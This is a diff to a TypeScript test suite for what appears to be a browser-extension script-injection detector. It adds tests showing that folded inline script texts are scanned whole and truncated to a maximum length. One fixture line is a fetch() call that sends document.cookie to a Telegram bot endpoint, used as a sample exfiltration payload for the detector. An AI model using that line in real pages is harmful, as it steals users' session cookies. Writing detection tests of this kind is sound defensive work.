@@ -18,6 +18,7 @@ import {
 import { reloadStormFinding } from '../../../src/background/reload-storm.ts';
 import { newTabRecord, type TabRecord } from '../../../src/background/tab-findings.ts';
 import type { Finding } from '../../../src/shared/findings.ts';
+import { FOLD_SEPARATOR, MAX_STRING } from '../../../src/shared/page-protocol.ts';
 import { compileRuleSet } from '../../../src/shared/rules/compile.ts';
 
 const engine = createEngine(compileRuleSet(baseline), 'test', Date.now);
@@ -121,5 +122,38 @@ describe('network findings against the rules', () => {
     };
     expect(storm(40, 800)).toEqual(['SAQ-RLD-001']);
     expect(storm(8, 3000)).toEqual([]);
+  });
+});
+
+describe('a flood’s folded code texts', () => {
+  const fold = (texts: string[]): Finding => ({
+    kind: 'script-inserted',
+    actor: { type: 'script', url: 'https://helper-cdn.test/flood.js' },
+    evidence: {
+      src: '',
+      inline: true,
+      selfRemoved: true,
+      sha256: '',
+      text: texts.join(FOLD_SEPARATOR),
+      how: 'insert',
+      sha256Skipped: true,
+      folded: texts.length,
+    },
+    at: 1,
+  });
+  const filler = (i: number) => `window.__flood = ${i}; // ${'.'.repeat(1500)}`;
+
+  it('are judged whole, so a token in the last text still counts, and kept cut to MAX_STRING', () => {
+    const texts = [filler(1), filler(2), filler(3), 'fetch("https://api.telegram.org/bot1:A/sendMessage",{body:document.cookie})'];
+    const record = feed([fold(texts)]);
+    expect(rules(record)).toContain('SAQ-INJ-006');
+    const kept = record.findings[0]!.evidence.text as string;
+    expect(kept).toHaveLength(MAX_STRING);
+    expect(kept).toBe(texts.join(FOLD_SEPARATOR).slice(0, MAX_STRING));
+    for (const verdict of record.verdicts) expect(verdict.finding).toBe(record.findings[0]);
+  });
+
+  it('flag nothing more when no text holds a token', () => {
+    expect(rules(feed([fold([filler(1), filler(2), filler(3)])]))).not.toContain('SAQ-INJ-006');
   });
 });
